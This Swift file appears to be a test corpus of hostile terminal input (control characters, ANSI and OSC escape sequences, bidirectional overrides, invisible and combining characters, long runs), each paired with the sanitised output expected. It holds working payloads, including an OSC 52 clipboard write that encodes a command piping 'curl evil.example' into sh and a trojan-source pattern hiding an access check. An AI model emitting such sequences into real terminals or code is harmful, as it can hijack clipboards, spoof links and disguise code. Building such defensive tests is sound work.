import DossierCore

/// Text that would drive or deceive a terminal if drawn raw: control characters, escape sequences, bidirectional
/// overrides, invisible characters, piles of combining marks, emoji sequences and absurdly long runs.
extension HostileCorpus {
    /// Every ASCII control character but NUL (a binary marker), in a headline and a paragraph.
    static var controls: [HostileCase] {
        (Array(0x01...0x1F) + [0x7F]).map { value in
            let character = String(Unicode.Scalar(UInt8(value)))
            let shows: [String] = switch value {
            case 0x09: ["Body with   inside."]  // a tab is one space
            case 0x0A...0x0D: ["Body with", "inside."]  // a line break (vertical tab and form feed break lines too)
            case 0x1B: ["Body with \u{241B}nside."]  // ESC, space, i: an nF escape sequence
            case 0x7F: ["Body with \u{2421} inside."]
            default: ["Body with \(Unicode.Scalar(0x2400 + UInt32(value))!) inside."]
            }
            return text("ASCII controls", "0x" + String(value, radix: 16, uppercase: true), article(character), .article(shows: shows))
        }
    }

    /// Escape sequences that set titles, write the clipboard, move the cursor, make links, or query the terminal.
    static var escapes: [HostileCase] {
        let payloads: [(String, String, String)] = [
            ("OSC 0 window title, BEL", "\u{1B}]0;pwned\u{07}", "Body with \u{241B} inside."),
            ("OSC 2 window title, ST", "\u{1B}]2;pwned\u{1B}\\", "Body with \u{241B} inside."),
            ("OSC 52 clipboard write", "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}", "Body with \u{241B} inside."),
            ("OSC 52 clipboard read request", "\u{1B}]52;c;?\u{07}", "Body with \u{241B} inside."),
            ("OSC 8 hyperlink", "\u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\", "Body with \u{241B}click\u{241B} inside."),
            ("OSC 7 working directory", "\u{1B}]7;file:///etc\u{07}", "Body with \u{241B} inside."),
            ("OSC 1337 file transfer", "\u{1B}]1337;File=name=eA==;inline=1:AAAA\u{07}", "Body with \u{241B} inside."),
            ("cursor home and clear screen", "\u{1B}[H\u{1B}[2J", "Body with \u{241B}\u{241B} inside."),
            ("cursor up five rows", "\u{1B}[5A", "Body with \u{241B} inside."),
            ("cursor to row 10, column 20", "\u{1B}[10;20H", "Body with \u{241B} inside."),
            ("save and restore the cursor", "\u{1B}7X\u{1B}8", "Body with \u{241B}X\u{241B} inside."),
            ("colours and blink", "\u{1B}[1;31;5m", "Body with \u{241B} inside."),
            ("alternate screen and mouse reporting", "\u{1B}[?1049h\u{1B}[?1000h", "Body with \u{241B}\u{241B} inside."),
            ("bracketed paste end", "\u{1B}[201~", "Body with \u{241B} inside."),
            ("window title report request", "\u{1B}[21t", "Body with \u{241B} inside."),
            ("DCS status request", "\u{1B}P$qm\u{1B}\\", "Body with \u{241B} inside."),
            ("DCS sixel image", "\u{1B}Pq#0;2;0;0;0#1!10~-\u{1B}\\", "Body with \u{241B} inside."),
            ("APC graphics", "\u{1B}_Gf=100;AAAA\u{1B}\\", "Body with \u{241B} inside."),
            ("PM and SOS strings", "\u{1B}^private\u{1B}\\\u{1B}Xstring\u{1B}\\", "Body with \u{241B}\u{241B} inside."),
            ("full reset", "\u{1B}c", "Body with \u{241B} inside."),
            ("8-bit CSI", "\u{9B}2J", "Body with \u{241B} inside."),
            ("8-bit OSC ended by 8-bit ST", "\u{9D}0;pwned\u{9C}", "Body with \u{241B} inside."),
            ("CSI with 1,000 parameters", "\u{1B}[" + (1...1000).map(String.init).joined(separator: ";") + "m", "Body with \u{241B} inside."),
            ("unterminated OSC", "\u{1B}]0;never ended", "Body with \u{241B}"),
            ("OSC longer than the folding cap", "\u{1B}]0;" + String(repeating: "A", count: 5000) + "\u{07}", "\u{241B}AAAA"),
            ("ESC before spaces and a letter", "\u{1B} ", "Body with \u{241B}nside."),
        ]
        var cases = payloads.map { name, payload, shown in
            text("escape sequences", name, article(payload), .article(shows: [shown]))
        }
        cases.append(text("escape sequences", "ESC as the last byte", "Headline\n\nBody with an end\u{1B}", .article(shows: ["Body with an end\u{241B}"])))
        cases.append(text("escape sequences", "escapes in a byline, a caption and names",
                          "Harbour talks resume\n\nBy Jane\u{1B}[31m Roe\n\nMinister Anna\u{1B}]0;x\u{07} Lindqvist met Omar\u{9B}8m Haddad in Rotterdam on Monday.\n\n(Photo: \u{1B}]52;c;eA==\u{07}Agency)\n",
                          .article(shows: ["Anna\u{241B} Lindqvist"])))
        return cases
    }

    static var bidi: [HostileCase] {
        let family = "bidirectional text"
        return [
            text(family, "right-to-left override in a headline", "Invoice \u{202E}fdp.exe\u{202C} headline\n\nBody with \u{202E}txet\u{202C} inside.\n",
                 .article(shows: ["Body with \u{21C4}txet\u{21C4} inside."])),
            text(family, "left-to-right override", article("\u{202D}abc\u{202C}"), .article(shows: ["Body with \u{21C4}abc\u{21C4} inside."])),
            text(family, "embeddings", article("\u{202B}x\u{202A}y\u{202C}"), .article(shows: ["Body with \u{21C4}x\u{21C4}y\u{21C4} inside."])),
            text(family, "isolates", article("\u{2066}a\u{2067}b\u{2068}c\u{2069}"), .article(shows: ["Body with \u{21C4}a\u{21C4}b\u{21C4}c\u{21C4} inside."])),
            text(family, "directional marks", article("a\u{200E}b\u{200F}c\u{061C}d"), .article(shows: ["Body with a\u{21C4}b\u{21C4}c\u{21C4}d inside."])),
            text(family, "trojan-source pattern", article("if access != \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\""),
                 .article(shows: ["\"user\u{21C4} \u{21C4}// admin\u{21C4} \u{21C4}\""])),
            text(family, "Hebrew and Arabic text", "כותרת בעברית\n\nBody with שלום and مرحبا inside.\n", .article(shows: ["Body with שלום and مرحبا inside."])),
        ]
    }

    static var invisible: [HostileCase] {
        let family = "invisible characters"
        let dropped: [(String, String)] = [
            ("zero-width space", "\u{200B}"), ("zero-width non-joiner", "\u{200C}"), ("lone zero-width joiner", "\u{200D}"),
            ("word joiner", "\u{2060}"), ("BOM inside text", "\u{FEFF}"), ("soft hyphen", "\u{00AD}"), ("invisible times", "\u{2062}"),
            ("Mongolian vowel separator", "\u{180E}"), ("tag characters", "\u{E0041}\u{E0042}"), ("interlinear annotation", "\u{FFF9}x\u{FFFA}y\u{FFFB}"),
        ]
        var cases = dropped.map { name, payload in
            let shown = payload.unicodeScalars.filter { $0.properties.generalCategory != .format }.map(String.init).joined()
            return text(family, name, article("in" + payload + "visible"), .article(shows: ["Body with in\(shown)visible inside."]))
        }
        cases += [
            text(family, "variation selector with no base", "Headline\n\n\u{FE0F}Body with a selector.\n", .article(shows: ["\u{25CC}\u{FE0F}Body with"])),
            text(family, "unassigned and noncharacters", article("\u{0378}\u{FFFF}\u{FFFE}"), .article(shows: ["Body with \u{FFFD}\u{FFFD}\u{FFFD} inside."])),
            text(family, "private use", article("\u{E000}\u{F8FF}"), .article(shows: ["Body with \u{E000}\u{F8FF} inside."])),
            text(family, "a headline of zero-width spaces only", String(repeating: "\u{200B}", count: 40) + "\n\nBody text that is visible.\n",
                 .article(shows: ["Body text that is visible."])),
        ]
        return cases
    }

    static var combining: [HostileCase] {
        let family = "combining marks"
        let acute = String(repeating: "\u{0301}", count: 10_000)
        let mixed = String(String.UnicodeScalarView((0..<10_000).map { Unicode.Scalar(0x0300 + UInt32($0 % 0x70))! }))
        return [
            text(family, "10,000 marks on one letter", "Headline\n\nZalgo e\(acute) word here.\n", .article(shows: ["Zalgo", "word here."])),
            text(family, "10,000 marks with no base", "Headline\n\n\(acute) after the marks.\n", .article(shows: ["after the marks."])),
            text(family, "10,000 marks in the headline", "Head\(acute)line\n\nBody text.\n", .article(shows: ["Body text."])),
            text(family, "10,000 different marks and an enclosing circle", "Headline\n\nMixed a\(mixed)\u{20DD} end.\n", .article(shows: ["Mixed", "end."])),
        ]
    }

    static var emoji: [HostileCase] {
        let family = "emoji sequences"
        let chain = Array(repeating: "👩", count: 1000).joined(separator: "\u{200D}")
        let cases: [(String, String)] = [
            ("family ZWJ sequence", "👨‍👩‍👧‍👦"), ("flags", "🇫🇷🇩🇪"), ("odd regional indicator", "🇫🇷🇩"), ("skin tones", "👍🏽👋🏿"),
            ("keycaps", "1️⃣#️⃣"), ("subdivision tag flag", "🏴󠁧󠁢󠁥󠁮󠁧󠁿"), ("text and emoji presentation", "☺︎☺️"), ("wide CJK and fullwidth", "東京会議ＦＵＬＬ"),
        ]
        return cases.map { name, payload in text(family, name, article(payload), .article(shows: ["Body with \(payload) inside."])) }
            + [text(family, "1,000 emoji joined into one cluster", "Headline\n\nChain \(chain) end.\n", .article(shows: ["Chain", "end."]))]
    }

    static var longText: [HostileCase] {
        let family = "long runs"
        return [
            text(family, "a 100,000-letter word", "Headline\n\nLong" + String(repeating: "x", count: 100_000) + " end.\n", .article(shows: ["Longxxx"])),
            text(family, "a 10,000-character headline", String(repeating: "Headline ", count: 1_200) + "\n\nBody text.\n", .article(shows: ["Body text."])),
            text(family, "100,000 tabs", "Headline\n\nTabs" + String(repeating: "\t", count: 100_000) + "end.\n", .article(shows: ["Tabs", "end."])),
            text(family, "20,000 acronyms", "Headline\n\n" + String(repeating: "U.S. ", count: 20_000) + "\n", .article(shows: ["U.S. U.S."])),
            text(family, "50,000 full stops", "Headline\n\nDots" + String(repeating: ".", count: 50_000) + "\n", .article(shows: ["Dots..."])),
            text(family, "10,000 nested brackets", "Headline\n\n" + String(repeating: "(", count: 10_000) + "x" + String(repeating: ")", count: 10_000) + "\n",
                 .article(shows: ["((("])),
            text(family, "apostrophes and hyphens alternating", "Headline\n\nA" + String(repeating: "-b'", count: 10_000) + "s end.\n", .article(shows: ["A-b'"])),
            text(family, "2,000 one-line paragraphs", "Headline\n\n" + (1...2_000).map { "Paragraph \($0) ends here." }.joined(separator: "\n\n") + "\n",
                 .article(shows: ["Paragraph 1 ends here."])),
        ]
    }
}
